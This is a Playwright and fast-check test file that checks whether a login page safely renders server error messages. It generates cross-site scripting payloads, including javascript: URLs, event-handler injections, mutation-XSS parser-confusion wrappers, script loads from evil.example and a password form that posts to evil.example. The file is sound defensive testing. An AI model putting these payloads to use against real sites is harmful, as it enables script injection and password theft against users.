import fc from 'fast-check'
import type { Page } from 'playwright/test'
import { attacksOf, collections } from './attacks/collections.ts'
import { accounts, expect, test, User, type Walk } from './journey.ts'
import type { Provider } from './provider.ts'
import { isWhole, seed } from './sampled.ts'

/** `npm run harden` tries 5,000 texts; the seed repeats them. */
const count = isWhole ? 5_000 : 200

const runs = fc.constantFrom('globalThis.pwned=1', 'alert(1)', 'globalThis.pwned&#61;1', 'eval("pwned=1")')
const handler = fc.constantFrom(
  'onerror',
  'onload',
  'onclick',
  'ONMOUSEOVER',
  'onfocus autofocus onfocus',
  'onanimationend',
)
const tag = fc.constantFrom(
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'video',
  'audio',
  'body',
  'math',
  'input',
  'details',
)
const address = fc.constantFrom(
  'javascript:pwned=1',
  'JaVa\tScRiPt:pwned=1',
  '&#106;avascript:pwned=1',
  'data:text/html,<script>pwned=1</script>',
  'vbscript:x',
  '//evil.example/x',
  'https://evil.example/x.js',
)
/** Where parsers change their mind about what is markup. */
const around = fc.constantFrom<[string, string]>(
  ['', ''],
  ['<math><mtext><table><mglyph><style><!--</style>', ''],
  ['<svg><foreignObject><math>', '</math></foreignObject></svg>'],
  ['<form><math><mtext></form><form><mglyph><style></math>', ''],
  ['<noscript><p title="</noscript>', '">'],
  ['<template>', '</template>'],
  ['<svg></p><style><a id="</style>', '">'],
  ['<select><iframe></select>', ''],
  ['<xmp>', '</xmp>'],
  ['<b>', '</b>'],
  ['<textarea>', '</textarea>'],
  ['<![CDATA[', ']]>'],
)
const attack = fc
  .tuple(
    around,
    fc.oneof(
      fc.tuple(tag, handler, runs).map(([name, on, run]) => `<${name} src=x ${on}="${run}">`),
      fc.tuple(tag, handler, runs).map(([name, on, run]) => `<${name}/${on}=${run}//`),
      fc
        .tuple(address)
        .map(([to]) => `<a href="${to}" target=_top id=config name=config class=x style="position:fixed">y</a>`),
      fc
        .tuple(fc.constantFrom('img', 'iframe', 'link rel=stylesheet', 'script'), address)
        .map(([name, to]) => `<${name} src="${to}" href="${to}"></${name.split(' ')[0]}>`),
      runs.map((run) => `<script>${run}</script>`),
      address.map((to) => `<meta http-equiv=refresh content="0;url=${to}"><base href="${to}">`),
      address.map((to) => `<form action="${to}"><input name=password><button>ok</button></form>`),
      runs.map((run) => `<style>@import "https://evil.example/x";*{background:url(javascript:${run})}</style>`),
    ),
  )
  .map(([[before, after], inner]) => before + inner + after)

test.use({ readsMarkup: true })

interface Attacked {
  page: Page
  provider: Provider
  locale: Walk['locale']
}

/** Has the server say all texts, by some at a time, to one who tries to sign in. */
async function areHarmless({ page, provider, locale }: Attacked, all: readonly string[]): Promise<void> {
  const user = new User(page, { locale, scheme: 'light', hands: 'pointer' })
  const outside: string[] = []
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== new URL(provider.url).origin) outside.push(request.url())
  })
  page.on('dialog', (dialog) => {
    outside.push(`dialog ${dialog.message()}`)
    return dialog.dismiss()
  })
  let texts: readonly string[] = []
  let at = 0
  await page.route('**/SecAuthentification/Authenticate', (route) => {
    at += 1
    const msgList = [`<b>n° ${at}.</b>`, ...texts].map((message) => ({ message, eventType: 5, exception: null }))
    return route.fulfill({ status: 401, json: { isSuccess: false, hasErrors: true, msgList } })
  })
  await user.settle()
  await page.goto(provider.url)
  await user.signIn(accounts.agent)
  const numbered = (round: number) => page.locator('b', { hasText: `n° ${round}.` }).first()
  await expect(numbered(1)).toBeVisible()
  const globals = () =>
    page.evaluate(() => JSON.stringify(['config', 'pwned', 'password'].map((name) => name in globalThis)))
  const before = await globals()
  const size = 40
  for (let from = 0; from < all.length; from += size) {
    texts = all.slice(from, from + size)
    const round = at + 1
    await page.getByLabel(user.t['login.password'], { exact: true }).press('Enter')
    await expect.poll(() => at, `the texts from ${from} on are asked for`).toBe(round)
    // The marks that are allowed are there, so the text has been made markup.
    await expect(numbered(round)).toBeVisible()
    const told = page.getByRole('alert').or(page.getByRole('region', { name: 'Notifications' }))
    const found = await told.evaluateAll((places) =>
      places.flatMap((place) =>
        [...place.querySelectorAll('b')].flatMap((mark) => {
          const text = mark.parentElement
          if (!text) return []
          return [...text.querySelectorAll('*')]
            .filter(
              (element) =>
                !/^(B|I|EM|STRONG|U|BR|P|UL|OL|LI|SPAN|A)$/.test(element.tagName) ||
                element.getAttributeNames().some((name) => !/^(href|rel)$/.test(name)) ||
                (element instanceof HTMLAnchorElement && element.href && !/^(https?|mailto):/.test(element.protocol)),
            )
            .map(({ outerHTML }) => outerHTML)
        }),
      ),
    )
    expect(found, `texts from ${from} on, seed ${seed}`).toEqual([])
    expect(await globals()).toBe(before)
    expect(outside).toEqual([])
  }
  expect(at).toBe(1 + Math.ceil(all.length / size))
  await expect(page.getByRole('heading', { name: user.t['login.title'] })).toBeVisible()
}

for (const locale of ['fr', 'en'] as const)
  test(`whatever markup the server’s words hold, nothing of it runs, loads, leads away or looks like the console: ${locale}`, async ({
    page,
    provider,
  }) => {
    if (isWhole) test.setTimeout(900_000)
    const all = fc.sample(attack, { numRuns: locale === 'fr' ? count : Math.ceil(count / 10), seed })
    await areHarmless({ page, provider, locale }, all)
  })

// `npm run harden -- S01` only: they come from GitHub, or from clones in the folder that RONDE_ATTACKS_FROM names.
for (const locale of isWhole ? (['fr', 'en'] as const) : [])
  for (const collection of collections)
    test(`nothing of a published attack runs, loads, leads away or looks like the console: ${collection.repository}, ${locale}`, async ({
      page,
      provider,
    }) => {
      test.setTimeout(1_800_000)
      await areHarmless({ page, provider, locale }, await attacksOf(collection, process.env['RONDE_ATTACKS_FROM']))
    })
